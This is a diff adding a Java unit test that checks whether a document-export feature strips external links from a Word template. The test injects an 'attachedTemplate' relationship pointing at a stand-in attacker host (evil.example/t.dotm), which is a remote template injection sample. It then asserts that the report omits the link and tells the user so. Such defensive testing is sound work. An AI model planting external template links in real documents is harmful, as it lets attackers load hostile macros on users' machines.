@@ -19,6 +19,9 @@ import gangmu.ui.controls.grid.GridModel;
 import gangmu.ui.shell.Desktop;
 import gangmu.ui.shell.Destination;
 import gangmu.usecase.editing.EditPlan;
+import java.nio.file.FileSystem;
+import java.nio.file.FileSystems;
+import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
 import java.util.Objects;
@@ -185,6 +188,31 @@ class StatusModelsTest {
         draft.refresh();
         on.settled();
         assertThat(draft.said().get()).contains("，0 处不一致");
+    }
+
+    @Test
+    void whatWasTakenOutOfTheOfficesTemplateIsSaidOnceTheReportIsWritten() throws Exception {
+        ExportsModel model = new ExportsModel(on.session);
+        on.following(model, model::refresh);
+        Path own = temp.resolve("模板.docx");
+        on.desktop.target = own;
+        model.exportTemplate();
+        on.settled();
+        assertThat(on.refused()).isFalse();
+        try (FileSystem parts = FileSystems.newFileSystem(own)) {
+            Path links = parts.getPath("word", "_rels", "document.xml.rels");
+            Files.writeString(links, Files.readString(links).replace("</Relationships>", "<Relationship Id=\"rIdX\" Type=\""
+                    + "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" "
+                    + "Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>"));
+        }
+        on.desktop.files = List.of(own);
+        model.chooseTemplate();
+        on.desktop.target = temp.resolve("报告.docx");
+        model.exportReport();
+        on.settled();
+        assertThat(on.said()).contains("报告.docx", "指向其他文件的链接没有带进报告");
+        assertThat(on.refused()).as("stays until it is closed").isTrue();
+        assertThat(on.desktop.opened).contains(temp.resolve("报告.docx"));
     }
 
     @Test
